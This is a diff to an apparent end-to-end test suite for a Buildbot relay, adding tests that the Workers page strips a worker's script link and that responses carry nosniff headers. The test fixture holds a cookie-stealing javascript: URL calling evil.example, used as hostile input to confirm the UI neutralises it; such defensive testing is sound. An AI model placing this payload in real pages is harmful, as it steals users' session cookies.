@@ -6,7 +6,8 @@ ends with a GitHub status naming them.
 One relay for the module: backend alpha (maintainer alice) has a test that holds its builds until a gate opens,
 so that a build is running or a request waiting when a test needs one; backend beta (maintainer bob) builds
 quickly, and fails once upstream adds a FLAG file (what bisect needs). Host lab (maintainer carol) has an alpha
-unit, a beta unit, and an idle unit whose worker the tests pause, stop and kill.
+unit, a beta unit, and an idle unit whose worker the tests pause, stop and kill; its lab admin gave the alpha unit a
+web page (info/access_uri) and the beta unit a script in its place.
 
 "Nothing changed" for actions Buildbot carries out asynchronously (stop, cancel, worker actions): each refused
 attempt gives a reason naming it ('attempt by bob'); Buildbot logs the reason of every stop and worker action it
@@ -17,6 +18,7 @@ from __future__ import annotations
 
 import json
 import re
+import urllib.error
 import urllib.request
 from urllib.parse import quote
 
@@ -24,12 +26,14 @@ import pytest
 from buildbot.process.results import CANCELLED, FAILURE, SUCCESS
 from selenium.webdriver.common.by import By
 
+from configfiles import write_file
 from conftest import UNITS_BRANCH, backend, make_upstream, prepare_relay, running, suite
 from crcr.config.users import add_user, users_file
 from crcr.names import status_context, suite_step_name
 from harness import holding, wait_until
 from webui import (
-    TOPBAR_BUTTONS, build_link, click_when_ready, open_page, sign_in, topbar_buttons, wait_for_element, wait_for_texts,
+    TOPBAR_BUTTONS, build_link, click_when_ready, open_page, page_text, sign_in, topbar_buttons, wait_for_element,
+    wait_for_texts,
 )
 
 pytestmark = pytest.mark.e2e
@@ -41,6 +45,11 @@ FLAG_TEST = "from pathlib import Path\n\n\ndef test_no_flag():\n    assert not (
 HOSTS = {"lab": {"devices": {"alpha": 1, "beta": 1, "idle": 1}, "admin": "Lab <lab@example.com>",
                  "maintainers": ["carol"]}}
 IDLE_UNIT = "lab-idle-0"
+# What each unit's info/access_uri says (a unit sends its info/ files as it connects): Buildbot's Workers page draws
+# it as a link.
+SCRIPTED_UNIT = "lab-beta-0"  # the Workers page lists the units of a builder: not the idle one
+ACCESS_URIS = {"lab-alpha-0": "https://lab.example.com/units/alpha-0",
+               SCRIPTED_UNIT: "javascript:fetch('https://evil.example/?'+document.cookie)"}
 
 
 @pytest.fixture(scope="module")
@@ -56,6 +65,9 @@ def lab(tmp_path_factory, github):
         "beta": {**backend("L2", "beta", [suite("flag", "test/test_flag.py")]), "maintainers": ["bob"]},
     }
     relay, workers = prepare_relay(root / "relay", upstream, github, backends, hosts=HOSTS)
+    for unit in workers:
+        if unit.name in ACCESS_URIS:
+            write_file(unit.basedir / "info" / "access_uri", ACCESS_URIS[unit.name] + "\n")
     for name, password in (ALICE, BOB, CAROL):
         add_user(users_file(root / "relay" / "secrets"), name, password)
     with running(relay, workers):
@@ -204,6 +216,29 @@ def test_the_ui_tells_a_signed_in_user_without_the_right_why_a_control_is_refuse
     click_when_ready(browser, "//div[contains(@class, 'modal')]//button[.='Pause']", "Pause")
     wait_for_texts(browser, ["signed in as alice: you need to have role 'host:lab'"], "the worker actions")
     assert not lab.worker(IDLE_UNIT)["paused"]
+
+
+def test_the_workers_page_links_a_units_web_page_and_never_its_script(lab, browser):
+    """A link a host sent that is not a web address would run, at a click, as whoever is signed in: the admin."""
+    sign_in(browser, lab.relay)
+    open_page(browser, lab.relay.web_url + "#/workers")
+    wait_for_element(browser, f"//td/a[.='{SCRIPTED_UNIT}']", f"{SCRIPTED_UNIT}'s row")
+    links = [link.get_attribute("href") or "" for link in browser.find_elements(By.TAG_NAME, "a")]
+    assert not [link for link in links if link.lower().startswith("javascript:")], links
+    assert "evil.example" not in page_text(browser)
+    assert ACCESS_URIS["lab-alpha-0"] in links
+    assert lab.worker(SCRIPTED_UNIT)["workerinfo"]["access_uri"] is None
+
+
+def test_the_relays_answers_say_nosniff(lab):
+    """No browser takes an answer for another type than it is served as (a script, a page)."""
+    for path in ("", "api/v2/workers", "plugins/crcr/api/relay", "badges/alpha.svg", "metrics"):
+        try:
+            answer = urllib.request.urlopen(lab.relay.web_url + path, timeout=10)
+        except urllib.error.HTTPError as refused:  # /metrics asks for Prometheus's token
+            answer = refused
+        with answer:
+            assert answer.headers["X-Content-Type-Options"] == "nosniff", path
 
 
 def test_rebuilding_needs_the_backends_maintainer(lab, verdicts):
